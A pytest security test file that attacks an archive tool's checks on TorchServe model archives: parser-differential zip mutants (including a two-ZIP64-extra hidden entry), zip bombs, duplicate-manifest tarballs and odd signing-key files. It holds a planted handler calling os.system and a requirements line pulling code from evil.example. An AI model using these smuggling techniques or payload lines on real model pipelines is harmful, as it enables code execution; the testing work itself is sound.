"""Attacks on issue #29's fixes, by an outsider: archives read two ways, signatures, exported requirements,
user mistakes.

Zips: TorchServe's frontend unpacks a .mar with Java's ``ZipInputStream`` (local entries in order), tsctl
reads it with Python's ``zipfile`` (central directory). A tiny Java program (``ZipList``, compiled here)
lists each zip as ZipInputStream does; mutants of a real packaged .mar (generated with hypothesis) are read
both ways, and whenever the two see different (name, bytes) lists, ``handlers.archives.check_zip`` must
refuse the zip. Attacks that succeed are written as the correct expectation and marked
``xfail(strict=True)`` until fixed: each is a bug, reproduced by its test.
"""

import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
import zlib
from dataclasses import dataclass, replace
from pathlib import Path
from typing import List, Optional

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from handlers import archives
from helpers import archive_reading
from helpers.models import stand_in_torchscript
from helpers.paths import ROOT

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")


def tsctl(*args, timeout: float = 120, env: Optional[dict] = None) -> subprocess.CompletedProcess:
    """The CLI of this tree (PYTHONPATH first: the venv's editable install may point elsewhere)."""
    env = dict(env or os.environ, PYTHONPATH=str(ROOT))
    command = [sys.executable, "-m", "archiver.cli", *map(str, args)]
    return subprocess.run(command, capture_output=True, text=True, timeout=timeout, env=env, stdin=subprocess.DEVNULL)


def one_line(done: subprocess.CompletedProcess, code: int, *words: str):
    """Refused with ``code`` in one stderr line holding ``words``, no traceback."""
    assert done.returncode == code, (done.returncode, done.stdout[-2000:], done.stderr[-2000:])
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr[-3000:]
    for word in words:
        assert word in lines[0], lines[0]


# ---- Java's view: ZipInputStream as TorchServe's ZipUtils.unzip reads a .mar -------------------------------
ZIP_LIST = r"""
import java.io.*;
import java.security.MessageDigest;
import java.util.zip.*;

/** For each path read on stdin, one line: OK and NAMEHEX:SHA256HEX (D for a directory) per entry, in the
 *  order ZipInputStream gives them (TorchServe's ZipUtils.unzip: getNextEntry, copy, until null), or ERR. */
public class ZipList {
    public static void main(String[] args) throws Exception {
        BufferedReader paths = new BufferedReader(new InputStreamReader(System.in, "UTF-8"));
        String path;
        while ((path = paths.readLine()) != null) {
            StringBuilder out = new StringBuilder("OK");
            try (ZipInputStream zis = new ZipInputStream(new BufferedInputStream(new FileInputStream(path)))) {
                ZipEntry entry;
                byte[] buf = new byte[65536];
                while ((entry = zis.getNextEntry()) != null) {
                    MessageDigest md = MessageDigest.getInstance("SHA-256");
                    int n;
                    while ((n = zis.read(buf)) > 0) md.update(buf, 0, n);
                    out.append(' ').append(hex(entry.getName().getBytes("UTF-8"))).append(':');
                    out.append(entry.isDirectory() ? "D" : hex(md.digest()));
                }
            } catch (Throwable e) {
                out.setLength(0);
                out.append("ERR ").append(String.valueOf(e).replace('\n', ' '));
            }
            System.out.println(out);
            System.out.flush();
        }
    }

    static String hex(byte[] b) {
        StringBuilder s = new StringBuilder();
        for (byte x : b) s.append(String.format("%02x", x));
        return s.toString();
    }
}
"""


class JavaZipReader:
    """One JVM running ZipList, fed a path per call."""

    def __init__(self, where: Path):
        (where / "ZipList.java").write_text(ZIP_LIST)
        subprocess.run(["javac", "-d", str(where), str(where / "ZipList.java")], check=True, timeout=120)
        self.process = subprocess.Popen(
            ["java", "-Xmx256m", "-cp", str(where), "ZipList"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            start_new_session=True,
        )

    def entries(self, path: Path) -> Optional[List[tuple]]:
        """[(name, sha256 or 'D')] as ZipInputStream reads them, or None when it fails."""
        self.process.stdin.write(f"{path}\n")
        self.process.stdin.flush()
        line = self.process.stdout.readline().split()
        assert line, "the Java reader died"
        if line[0] != "OK":
            return None
        return [(bytes.fromhex(name).decode("utf-8"), digest) for name, digest in (x.split(":") for x in line[1:])]

    def close(self):
        self.process.stdin.close()
        self.process.wait(30)
        self.process.stdout.close()


def python_entries(path: Path) -> Optional[List[tuple]]:
    """[(name, sha256 or 'D')] as zipfile reads them (what tsctl checks, signs and unpacks), or None."""
    try:
        with zipfile.ZipFile(path) as z:
            return [
                (i.filename, "D" if i.filename.endswith("/") else hashlib.sha256(z.read(i)).hexdigest())
                for i in z.infolist()  # not i.is_dir(): IndexError on an empty name
            ]
    except Exception:  # noqa: BLE001 - zipfile cannot read it: tsctl refuses it when it unpacks it
        return None


def refused(path: Path) -> bool:
    try:
        archives.check_zip(path)
    except archives.ArchiveError:
        return True
    return False


@pytest.fixture(scope="module")
def java(tmp_path_factory):
    if not shutil.which("javac") or not shutil.which("java"):
        pytest.skip("needs a JDK (javac, java)")
    reader = JavaZipReader(tmp_path_factory.mktemp("java"))
    yield reader
    reader.close()


# ---- building zips entry by entry ---------------------------------------------------------------------------
@dataclass
class Entry:
    """One zip entry as written: the central record's fields, and what the local header says if it differs."""

    name: bytes
    data: bytes  # what follows the local header (compressed bytes, or anything)
    crc: int
    usize: int
    csize: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    local_name: Optional[bytes] = None
    local_sizes: Optional[tuple] = None  # (crc, csize, usize) in the local header
    local_flags: Optional[int] = None
    local_method: Optional[int] = None
    local_extra: bytes = b""
    central_extra: bytes = b""
    descriptor: bytes = b""


def deflate(content: bytes, level: int = 6) -> bytes:
    compressor = zlib.compressobj(level, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(content) + compressor.flush()


def entry(name: str, content: bytes, method: int = zipfile.ZIP_DEFLATED) -> Entry:
    data = deflate(content) if method == zipfile.ZIP_DEFLATED else content
    return Entry(name.encode(), data, zlib.crc32(content), len(content), len(data), method)


def entries_of(data: bytes) -> List[Entry]:
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for i in z.infolist():
            name_length, extra_length = struct.unpack_from("<HH", data, i.header_offset + 26)
            start = i.header_offset + 30 + name_length + extra_length
            raw = data[start : start + i.compress_size]
            found.append(
                Entry(i.orig_filename.encode(), raw, i.CRC, i.file_size, i.compress_size, i.compress_type, i.flag_bits)
            )
    return found


def local_header(e: Entry) -> bytes:
    name = e.name if e.local_name is None else e.local_name
    crc, csize, usize = e.local_sizes or (e.crc, e.csize, e.usize)
    flags = e.flags if e.local_flags is None else e.local_flags
    method = e.method if e.local_method is None else e.local_method
    head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0x21, crc, csize, usize, len(name), 0)
    return head[:-2] + struct.pack("<H", len(e.local_extra)) + name + e.local_extra


def build(entries: List[Entry], prefix: bytes = b"", comment: bytes = b"", between: Optional[dict] = None) -> bytes:
    """A zip of ``entries``; ``between[k]``: bytes put right before entry k (k == len: before the directory)."""
    between = between or {}
    body, offsets = bytearray(prefix), []
    for k, e in enumerate(entries):
        body += between.get(k, b"")
        offsets.append(len(body))
        body += local_header(e) + e.data + e.descriptor
    body += between.get(len(entries), b"")
    directory = bytearray()
    for e, offset in zip(entries, offsets):
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            e.flags,
            e.method,
            0,
            0x21,
            e.crc,
            e.csize,
            e.usize,
            len(e.name),
            len(e.central_extra),
            0,
            0,
            0,
            0,
            offset,
        )
        directory += e.name + e.central_extra
    count = len(entries)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), len(comment))
    return bytes(body + directory + end + comment)


def zip64_extra(usize: int, csize: int) -> bytes:
    return struct.pack("<HHQQ", 1, 16, usize, csize)


@pytest.fixture(scope="module")
def small_mar(tmp_path_factory) -> Path:
    """A real .mar from tsctl package (toolkit handler, its handlers/ package bundled), 120 KB."""
    from archiver import mar

    root = tmp_path_factory.mktemp("small")
    (root / "labels.json").write_text('{"0": "cat", "1": "dog"}')
    options = mar.PackageOptions(
        model_name="tiny",
        handler="image_classifier",
        serialized_file=str(stand_in_torchscript(root / "tiny.pt")),
        extra_files=[str(root / "labels.json")],
        export_path=str(root / "store"),
        force=True,
    )
    return mar.package(options)


HIDDEN_NAME = "handlers/text_classification.py"
HIDDEN_CODE = b"import os\nos.system('touch /tmp/owned')\n"


def hidden_local(name: str = HIDDEN_NAME, content: bytes = HIDDEN_CODE) -> bytes:
    e = entry(name, content, zipfile.ZIP_STORED)
    return local_header(e) + e.data


def test_the_readers_agree_on_the_clean_archive_and_its_rebuilt_copy(java, small_mar, tmp_path):
    rebuilt = tmp_path / "rebuilt.mar"
    rebuilt.write_bytes(build(entries_of(small_mar.read_bytes())))  # entry by entry, as the mutants are
    for archive in (small_mar, rebuilt):
        assert java.entries(archive) == python_entries(archive) and len(python_entries(archive)) > 20
        assert not refused(archive)


# ---- generated mutants: every disagreement refused ---------------------------------------------------------
def mutate(entries: List[Entry], data: st.DataObject) -> dict:
    """One mutation of a copy of ``entries``, drawn by hypothesis: build()'s keyword arguments."""
    entries = [replace(e) for e in entries]
    k = data.draw(st.integers(0, len(entries) - 1), label="entry")
    e = entries[k]
    kind = data.draw(
        st.sampled_from(
            [
                "hidden",
                "duplicate",
                "local name",
                "local flags",
                "local method",
                "local sizes",
                "zip64",
                "descriptor",
                "prefix",
                "trailing",
                "comment",
                "gap",
                "pk inside stored",
                "junk extra",
                "directory",
                "empty name",
                "names",
                "byte flip",
            ]
        ),
        label="kind",
    )
    build_args = {"entries": entries}
    if kind == "hidden":
        name = data.draw(st.sampled_from([HIDDEN_NAME, "labels.json", "evil.py", "MAR-INF/MANIFEST.json"]))
        build_args["between"] = {data.draw(st.integers(0, len(entries))): hidden_local(name)}
    elif kind == "duplicate":
        other = data.draw(st.sampled_from([e.name, e.name.upper(), b"./" + e.name, e.name.replace(b"/", b"//")]))
        entries.insert(data.draw(st.integers(0, len(entries))), replace(e, name=other))
    elif kind == "local name":
        e.local_name = data.draw(
            st.sampled_from([e.name[:-1] + b"X", e.name + b"/", b"./" + e.name, e.name.upper(), e.name + b"\x00", b""])
        )
    elif kind == "local flags":
        e.local_flags = e.flags ^ data.draw(st.sampled_from([1, 8, 0x800, 2, 0x40]))
    elif kind == "local method":
        e.local_method = data.draw(st.sampled_from([0, 8, 12, 99]))
    elif kind == "local sizes":
        which = data.draw(st.integers(0, 2))
        sizes = [e.crc, e.csize, e.usize]
        sizes[which] = (sizes[which] + data.draw(st.integers(1, 1000))) % (1 << 32)
        e.local_sizes = tuple(sizes)
    elif kind == "zip64":  # one ZIP64 extra in the local header, its sizes right or not
        e.local_sizes = (e.crc, 0xFFFFFFFF, data.draw(st.sampled_from([0xFFFFFFFF, e.usize])))
        delta = data.draw(st.sampled_from([0, 0, 1, -1]))
        e.local_extra = zip64_extra(e.usize, max(0, e.csize + delta))
    elif kind == "descriptor":
        if e.method == zipfile.ZIP_DEFLATED:
            e.flags |= 8
            e.local_sizes = (0, 0, 0)
            signed = data.draw(st.booleans())
            lie = data.draw(st.sampled_from([0, 0, 1]))
            e.descriptor = (b"PK\x07\x08" if signed else b"") + struct.pack("<III", e.crc, e.csize, e.usize + lie)
    elif kind == "prefix":
        build_args["prefix"] = data.draw(st.sampled_from([b"#!/bin/sh\n", b"\0" * 4, hidden_local()]))
    elif kind == "trailing":
        build_args["comment"] = b""
        entries.append(None)  # marker: trailing bytes added after build
    elif kind == "comment":
        build_args["comment"] = data.draw(st.sampled_from([b"x", hidden_local()]))
    elif kind == "gap":
        build_args["between"] = {data.draw(st.integers(1, len(entries))): b"\0" * data.draw(st.integers(1, 64))}
    elif kind == "pk inside stored":  # the bytes of a local header inside stored data: both readers skip them
        entries.insert(k, entry("weights.bin", b"x" + hidden_local() + b"y", zipfile.ZIP_STORED))
    elif kind == "junk extra":  # an unknown extra field in one header or both: both readers ignore it
        junk = struct.pack("<HH", 0xCAFE, 4) + b"abcd"
        if data.draw(st.booleans()):
            e.local_extra = junk
        else:
            e.central_extra = junk
    elif kind == "directory":
        entries.insert(k, entry(data.draw(st.sampled_from(["dir/", "handlers/", "labels.json/"])), b""))
    elif kind == "empty name":
        entries.insert(k, entry("", b"nameless"))
    elif kind == "names":  # names each reader decodes its own way
        raw = data.draw(st.sampled_from(["caf\u00e9.txt".encode(), "caf\u00e9.txt".encode("cp437"), b"a\\b.txt"]))
        utf8 = raw.isascii() or raw == "caf\u00e9.txt".encode()  # invalid UTF-8 marked UTF-8: its own test
        utf8 = utf8 and data.draw(st.booleans())
        entries.insert(k, replace(entry("x", b"named"), name=raw, flags=0x800 if utf8 else 0))
    return build_args | {"flip": kind == "byte flip" and data.draw(st.integers(0, 10_000)), "kind": kind}


def mutant(args: dict, data: st.DataObject) -> bytes:
    entries = args["entries"]
    trailing = None in entries
    entries = [e for e in entries if e is not None]
    out = bytearray(build(entries, args.get("prefix", b""), args.get("comment", b""), args.get("between")))
    if trailing:
        out += b"trailing bytes"
    if args["flip"] is not False:  # one byte of a header changed (local or central, and the end record)
        headers = [
            i
            for i in range(len(out) - 4)
            if out[i : i + 2] == b"PK" and out[i + 2 : i + 4] in (b"\x03\x04", b"\x01\x02", b"\x05\x06")
        ]
        header = headers[args["flip"] % len(headers)]
        at = header + data.draw(st.integers(4, 45), label="offset")
        version_needed = out[header + 2 : header + 4] == b"\x01\x02" and at in (header + 6, header + 7)
        if at < len(out) and not version_needed:  # a central record's version needed: its own test
            out[at] = data.draw(st.integers(0, 255), label="byte")
    return bytes(out)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(data=st.data())
def test_whenever_java_and_zipfile_see_different_files_check_zip_refuses(java, small_mar, tmp_path_factory, data):
    entries = entries_of(small_mar.read_bytes())
    args = mutate(entries, data)
    path = tmp_path_factory.getbasetemp() / "mutant.mar"
    path.write_bytes(mutant(args, data))
    seen_by_java, seen_by_zipfile = java.entries(path), python_entries(path)
    try:
        archives.check_zip(path)
        passed = True
    except archives.ArchiveError as exc:
        passed = False
        assert "\n" not in str(exc)
    if passed and seen_by_java is not None:
        assert seen_by_java == seen_by_zipfile, f"{args['kind']}: check_zip passed a zip the two readers disagree on"


@pytest.mark.matrix
@settings(max_examples=5000, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(data=st.data())
def test_many_more_mutants(java, small_mar, tmp_path_factory, data):
    test_whenever_java_and_zipfile_see_different_files_check_zip_refuses.hypothesis.inner_test(
        java, small_mar, tmp_path_factory, data
    )


# ---- what broke ---------------------------------------------------------------------------------------------
def two_zip64_extras(clean: bytes, victim: str = "labels.json") -> bytes:
    """``victim``'s local header says its sizes are in a ZIP64 extra field and has two: the first (which
    check_zip reads) gives the sizes of the central record, the second (which ZipInputStream keeps: it reads
    every field and the last one wins) gives the deflate stream's own length. Its data is the deflate stream
    and, after it, a hidden stored entry: zipfile reads the stream and ignores the rest up to the next entry,
    Java reads the stream, then the hidden entry, then the next entry."""
    entries = entries_of(clean)
    e = next(x for x in entries if x.name == victim.encode())
    stream = len(e.data)
    e.data += hidden_local()
    e.csize = len(e.data)
    e.local_sizes = (e.crc, 0xFFFFFFFF, 0xFFFFFFFF)
    e.local_extra = zip64_extra(e.usize, e.csize) + zip64_extra(e.usize, stream)
    return build(entries)


def test_a_second_zip64_extra_field_hiding_an_entry_is_refused(java, small_mar, tmp_path):
    archive = tmp_path / "tiny.mar"
    archive.write_bytes(two_zip64_extras(small_mar.read_bytes()))
    seen_by_java, seen_by_zipfile = java.entries(archive), python_entries(archive)
    hidden = hashlib.sha256(HIDDEN_CODE).hexdigest()
    assert dict(seen_by_java)[HIDDEN_NAME] == hidden  # ZipInputStream unpacks the hidden entry over the real one
    assert dict(seen_by_zipfile)[HIDDEN_NAME] != dict(seen_by_java)[HIDDEN_NAME]  # TorchServe runs other code
    one_line(tsctl("inspect", archive), 2, "labels.json", "disagree")


@pytest.mark.parametrize("where", ["local", "central"])
def test_an_extra_block_with_a_field_twice_or_overrunning_is_refused(small_mar, tmp_path, where):
    for extra in (zip64_extra(1, 2) + zip64_extra(1, 2), struct.pack("<HH", 0xCAFE, 9) + b"abcd", b"\x01\x00"):
        entries = entries_of(small_mar.read_bytes())
        e = next(x for x in entries if x.name == b"labels.json")
        if where == "local":
            e.local_extra = extra
        else:
            e.central_extra = extra
        assert refused_bytes(build(entries), tmp_path), extra


def test_a_deflate_stream_ending_before_its_declared_size_fails_in_java(java, small_mar, tmp_path):
    """Why check_zip does not inflate a deflated entry without a data descriptor: ZipInputStream fails the
    entry unless its stream ends exactly at the compressed size of its local header (which check_zip holds
    equal to the central record's), so bytes hidden after the stream's end never become an entry in Java."""
    entries = entries_of(small_mar.read_bytes())
    e = next(x for x in entries if x.name == b"labels.json")
    e.data += hidden_local()
    e.csize = len(e.data)
    archive = tmp_path / "tiny.mar"
    archive.write_bytes(build(entries))
    assert java.entries(archive) is None  # TorchServe loads nothing from it
    assert python_entries(archive) is not None and not refused(archive)  # headers agree: check_zip cannot tell


def named(clean: bytes, name: bytes, flags: int = 0) -> bytes:
    entries = entries_of(clean)
    entries.insert(3, replace(entry("x", b"content"), name=name, flags=flags))
    return build(entries)


def version_needed(clean: bytes, version: int) -> bytes:
    """The first central record says ``version`` (70: 7.0) is needed to extract it; ZipInputStream never reads it."""
    out = bytearray(clean)
    struct.pack_into("<H", out, struct.unpack_from("<I", clean, len(clean) - 22 + 16)[0] + 6, version)
    return bytes(out)


UNREADABLE = {
    "invalid UTF-8 marked UTF-8": lambda clean: named(clean, b"labels\xff.json", 0x800),  # UnicodeDecodeError
    "empty name": lambda clean: named(clean, b""),  # IndexError in ZipInfo.is_dir, from members()
    "version needed 7.0": lambda clean: version_needed(clean, 70),  # NotImplementedError
}


@pytest.mark.parametrize("case", list(UNREADABLE))
def test_an_unreadable_zip_is_one_line_and_json_under_json(java, small_mar, tmp_path, case):
    archive = tmp_path / "tiny.mar"
    archive.write_bytes(UNREADABLE[case](small_mar.read_bytes()))
    done = tsctl("inspect", archive, "--json")
    assert done.returncode == 2 and "error" in json.loads(done.stdout or "null"), (done.stdout, done.stderr[-500:])
    one_line(tsctl("inspect", archive), 2)


# ---- check_zip's cache: a swapped file is checked again ----------------------------------------------------
def same_size_mutant(clean: bytes) -> bytes:
    """labels.json named otherwise in its local header only: as big as the clean archive, and refused."""
    entries = entries_of(clean)
    next(x for x in entries if x.name == b"labels.json").local_name = b"Labels.json"
    return build(entries)


@pytest.mark.parametrize("swap", ["rewritten in place, mtime put back", "renamed over", "symlink repointed"])
def test_a_file_swapped_after_its_check_is_checked_again(small_mar, tmp_path, swap):
    clean = build(entries_of(small_mar.read_bytes()))
    bad = same_size_mutant(clean)
    assert len(bad) == len(clean) and refused_bytes(bad, tmp_path)
    for attempt in range(20):  # the swap as fast as it goes, right after the check
        path, other = tmp_path / f"{attempt}" / "tiny.mar", tmp_path / f"{attempt}" / "other.mar"
        path.parent.mkdir()
        if swap == "symlink repointed":
            (path.parent / "a.mar").write_bytes(clean)
            (path.parent / "b.mar").write_bytes(bad)
            path.symlink_to("a.mar")
        else:
            path.write_bytes(clean)
        before = path.stat()
        assert archive_reading.kind(path) == "zip"
        if swap == "rewritten in place, mtime put back":
            with open(path, "r+b") as f:
                f.write(bad)
            os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
        elif swap == "renamed over":
            other.write_bytes(bad)
            os.utime(other, ns=(before.st_atime_ns, before.st_mtime_ns))
            os.replace(other, path)
        else:
            (path.parent / "tiny.new").symlink_to("b.mar")
            os.replace(path.parent / "tiny.new", path)
        with pytest.raises(archives.ArchiveError, match="disagree"):
            archive_reading.kind(path)


def refused_bytes(data: bytes, where: Path) -> bool:
    path = where / "probe.mar"
    path.write_bytes(data)
    return refused(path)


# ---- check_zip's cost -----------------------------------------------------------------------------------------
def zeros_stream(blocks: int, block: int = 16 << 20) -> bytes:
    """A raw deflate stream of ``blocks`` x ``block`` zero bytes, made without compressing all of them: after a
    full flush the compressor starts afresh, so each block compresses to the same bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    one = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    return one * blocks + compressor.flush()


def descriptor_bomb(blocks: int) -> bytes:
    """A zip whose one big entry is deflated with a data descriptor (as `zip -` or a streaming writer makes
    them): check_zip inflates it to find where ZipInputStream ends it."""
    stream = zeros_stream(blocks)
    usize = blocks * (16 << 20)
    crc = 0
    zero = b"\0" * (16 << 20)
    for _ in range(blocks):
        crc = zlib.crc32(zero, crc)
    big = Entry(b"weights.bin", stream, crc, usize, len(stream), flags=8, local_sizes=(0, 0, 0))
    wide = usize > 0xFFFFFFFF
    big.descriptor = b"PK\x07\x08" + struct.pack("<IQQ" if wide else "<III", crc, len(stream), usize)
    manifest = entry("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "bomb", "handler": "h.py"}}')
    return build([manifest, big])


def test_a_few_big_stored_or_deflated_entries_cost_a_millisecond(tmp_path):
    archive = tmp_path / "big.mar"
    with zipfile.ZipFile(archive, "w") as z:  # 6 entries of 8 MB: the check reads headers only
        for index, method in enumerate([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED] * 3):
            z.writestr(zipfile.ZipInfo(f"weights-{index}.bin"), os.urandom(1 << 20) * 8, method)
    started = time.thread_time()  # the check's own CPU, not the wall clock a loaded machine stretches
    archives.check_zip(archive)
    assert time.thread_time() - started < 0.05


def test_a_small_archive_of_a_descriptor_entry_is_checked_quickly(tmp_path):
    """4 MB of archive, 4 GB inflated (~1.5 s): at this rate a 500 MB archive holds the engine, verify and inspect
    for minutes, before unpack_limit's zip-bomb check (which comes after check_zip) ever runs."""
    archive = tmp_path / "bomb.mar"
    archive.write_bytes(descriptor_bomb(255))
    assert archive.stat().st_size < 4.5e6
    started = time.thread_time()  # the check's own CPU
    try:
        archives.check_zip(archive)
    except archives.ArchiveError:
        pass
    took = time.thread_time() - started
    print(f"check_zip of a {archive.stat().st_size / 1e6:.1f} MB descriptor entry: {took:.1f} s")
    assert took < 0.5


def test_a_descriptor_entry_is_inflated_no_further_than_its_declared_size(tmp_path):
    """A 1 GB stream declared as 100 bytes (within the unpack limit): refused after its first 101 bytes."""
    stream = zeros_stream(64)
    big = Entry(b"weights.bin", stream, 0, 100, len(stream), flags=8, local_sizes=(0, 0, 0))
    big.descriptor = b"PK\x07\x08" + struct.pack("<III", 0, len(stream), 100)
    archive = tmp_path / "liar.mar"
    archive.write_bytes(build([entry("MAR-INF/MANIFEST.json", b"{}"), big]))
    started = time.thread_time()  # the check's own CPU
    with pytest.raises(archives.ArchiveError, match="weights.bin's compressed data does not end"):
        archives.check_zip(archive)
    assert time.thread_time() - started < 0.05


# ---- .tar.gz: tsctl reads the first of two same-named members, extraction keeps the last ---------------------
def tgz_with_second_manifest(store: Path, requirements: bytes) -> Path:
    """tsctl package --archive-format tgz, then a requirements.txt and a second MANIFEST.json naming it appended:
    tar -x, Python's extractall and TorchServe's TarArchiveInputStream loop all keep the last."""
    from archiver import mar

    store.parent.mkdir(parents=True, exist_ok=True)
    (store.parent / "labels.json").write_text('{"0": "cat"}')
    options = mar.PackageOptions(
        model_name="tiny",
        handler="image_classifier",
        archive_format="tgz",
        export_path=str(store),
        force=True,
        serialized_file=str(stand_in_torchscript(store.parent / "tiny.pt")),
        extra_files=[str(store.parent / "labels.json")],
    )
    archive = mar.package(options)
    with tarfile.open(archive) as src:
        members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src.getmembers()]
    manifest = json.loads(next(data for m, data in members if m.name == "tiny/MAR-INF/MANIFEST.json"))
    manifest["model"]["requirementsFile"] = "requirements.txt"
    with tarfile.open(archive, "w:gz") as out:
        for m, data in members:
            out.addfile(m, io.BytesIO(data) if data is not None else None)
        for name, data in (
            ("tiny/requirements.txt", requirements),
            ("tiny/MAR-INF/MANIFEST.json", json.dumps(manifest)),
        ):
            data = data if isinstance(data, bytes) else data.encode()
            member = tarfile.TarInfo(name)
            member.size = len(data)
            out.addfile(member, io.BytesIO(data))
    return archive


EVIL_REQUIREMENTS = b"-e git+https://evil.example/owned.git#egg=owned\n"


def test_export_kserve_refuses_a_tgz_whose_second_manifest_names_unchecked_requirements(tmp_path):
    from helpers.models import export_tree

    root = tmp_path / "tree"
    archive = tgz_with_second_manifest(root / "model-store", EVIL_REQUIREMENTS)
    unpacked = tmp_path / "as-torchserve-unpacks-it"
    unpacked.mkdir()
    subprocess.run(["tar", "-xzf", str(archive), "-C", str(unpacked)], check=True)
    assert (unpacked / "tiny" / "requirements.txt").read_bytes() == EVIL_REQUIREMENTS
    assert json.loads((unpacked / "tiny/MAR-INF/MANIFEST.json").read_text())["model"]["requirementsFile"]
    try:
        out = export_tree(root)
    except Exception as exc:  # noqa: BLE001 - refused: what is expected
        assert "requirements.txt" in str(exc) or "tiny.tar.gz" in str(exc), exc
        return
    assert "install_py_dep_per_model=true" in (out / "config" / "config.properties").read_text()
    as_served = tmp_path / "as-torchserve-unpacks-the-export"
    as_served.mkdir()
    subprocess.run(["tar", "-xzf", str(out / "model-store" / "tiny.tar.gz"), "-C", str(as_served)], check=True)
    named = json.loads((as_served / "tiny/MAR-INF/MANIFEST.json").read_text())["model"].get("requirementsFile")
    if named:  # what TorchServe's per-model install runs pip install -r on: only checked lines
        from archiver import requirements

        requirements.check((as_served / "tiny" / named).read_text(), "the exported archive's requirements")


@pytest.mark.parametrize("member", ["second manifest", "symlink", "hardlink", "fifo"])
def test_inspect_refuses_a_tgz_with_a_duplicate_or_a_link_in_one_line_naming_it(tmp_path, member):
    archive = tgz_with_second_manifest(tmp_path / "store", b"numpy\n")
    if member != "second manifest":
        with tarfile.open(archive) as src:
            members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src.getmembers()][:-2]
        with tarfile.open(archive, "w:gz") as out:
            for m, data in members:
                out.addfile(m, io.BytesIO(data) if data is not None else None)
            odd = tarfile.TarInfo("tiny/odd")
            odd.type = {"symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE, "fifo": tarfile.FIFOTYPE}[member]
            odd.linkname = "tiny/MAR-INF/MANIFEST.json" if member != "fifo" else ""
            out.addfile(odd)
    one_line(tsctl("inspect", archive), 2, "tiny.tar.gz", "MANIFEST.json" if member == "second manifest" else "odd")


# ---- signatures ---------------------------------------------------------------------------------------------
def key_files(where: Path) -> dict:
    """Every kind of file someone might give as a key, by what it is."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
    from cryptography.x509.oid import NameOID

    where.mkdir(parents=True, exist_ok=True)
    pem, spki = serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    signer = ec.generate_private_key(ec.SECP256R1())
    other = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "tsctl")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(signer.public_key())
        .serial_number(1)
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(signer, hashes.SHA256())
    )
    files = {
        "signer private": signer.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()),
        "signer public": signer.public_key().public_bytes(pem, spki),
        "other public": other.public_key().public_bytes(pem, spki),
        "encrypted private": signer.private_bytes(
            pem, serialization.PrivateFormat.PKCS8, serialization.BestAvailableEncryption(b"pw")
        ),
        "certificate": cert.public_bytes(pem),
        "rsa public": rsa.generate_private_key(65537, 2048).public_key().public_bytes(pem, spki),
        "ed25519 public": ed25519.Ed25519PrivateKey.generate().public_key().public_bytes(pem, spki),
        "P-192 public": ec.generate_private_key(ec.SECP192R1()).public_key().public_bytes(pem, spki),
        "DER public": signer.public_key().public_bytes(serialization.Encoding.DER, spki),
        "empty": b"",
        "text": b"not a key\n",
        "binary": os.urandom(4096),
        "huge": b"A" * (64 << 20),
        "key after 64 KB": b"\n" * (65 << 10) + signer.public_key().public_bytes(pem, spki),
        "two keys": other.public_key().public_bytes(pem, spki) + signer.public_key().public_bytes(pem, spki),
    }
    paths = {}
    for what, data in files.items():
        paths[what] = where / (what.replace(" ", "-") + ".pem")
        paths[what].write_bytes(data)
    paths["directory"] = where / "a-directory.pem"
    paths["directory"].mkdir()
    paths["missing"] = where / "missing.pem"
    paths["fifo"] = where / "fifo.pem"
    os.mkfifo(paths["fifo"])
    paths["dev null"] = Path("/dev/null")
    paths["symlink to the key"] = where / "link.pem"
    paths["symlink to the key"].symlink_to(paths["signer public"])
    return paths


@pytest.fixture(scope="module")
def signed_small(tmp_path_factory):
    """A small archive signed as tiny 2.0 and the same model signed as tiny 1.0, one key."""
    from archiver import mar

    root = tmp_path_factory.mktemp("signed")
    keys = key_files(root / "keys")
    (root / "labels.json").write_text('{"0": "cat", "1": "dog"}')
    made = {}
    for version in ("1.0", "2.0"):
        options = mar.PackageOptions(
            model_name="tiny",
            handler="image_classifier",
            version=version,
            force=True,
            serialized_file=str(stand_in_torchscript(root / "tiny.pt")),
            extra_files=[str(root / "labels.json")],
            export_path=str(root / f"v{version}"),
            sign_key=str(keys["signer private"]),
        )
        made[version] = mar.package(options)
    return {"root": root, "keys": keys, "v1": made["1.0"], "v2": made["2.0"]}


GOOD_KEYS = ("signer public", "symlink to the key")


@pytest.mark.parametrize(
    "what",
    [
        "signer private",
        "encrypted private",
        "certificate",
        "rsa public",
        "ed25519 public",
        "P-192 public",
        "DER public",
        "empty",
        "text",
        "binary",
        "huge",
        "key after 64 KB",
        "directory",
        "missing",
        "fifo",
        "dev null",
    ],
)
def test_any_other_file_given_as_the_public_key_is_one_line(signed_small, what):
    key = signed_small["keys"][what]
